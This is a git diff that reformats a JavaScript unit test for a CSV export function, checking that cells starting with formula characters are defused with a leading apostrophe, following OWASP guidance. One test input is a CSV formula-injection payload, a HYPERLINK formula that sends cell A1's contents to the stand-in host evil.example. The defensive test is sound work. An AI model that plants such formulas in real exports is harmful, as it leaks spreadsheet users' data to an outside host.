@@ -15,8 +15,19 @@ describe('toCsv', () => {
   });
 
   it('defuses every cell starting like a formula (OWASP): =, +, -, @, tab, carriage return', () => {
-    const cells = ['=HYPERLINK("x")', '-1+HYPERLINK("http://evil.example/?"&A1,"Voir")', '+1+1', '@SUM(A1)', '\t=1+2', '\r=1+2', '-SUM(A1)'];
-    const lines = toCsv(['a'], cells.map((c) => [c])).split('\r\n');
+    const cells = [
+      '=HYPERLINK("x")',
+      '-1+HYPERLINK("http://evil.example/?"&A1,"Voir")',
+      '+1+1',
+      '@SUM(A1)',
+      '\t=1+2',
+      '\r=1+2',
+      '-SUM(A1)',
+    ];
+    const lines = toCsv(
+      ['a'],
+      cells.map((c) => [c]),
+    ).split('\r\n');
     expect(lines.slice(1, 4)).toEqual(['"\'=HYPERLINK(""x"")"', '"\'-1+HYPERLINK(""http://evil.example/?""&A1,""Voir"")"', "'+1+1"]);
     expect(lines[4]).toBe("'@SUM(A1)");
     expect(lines[5]).toBe("'\t=1+2");
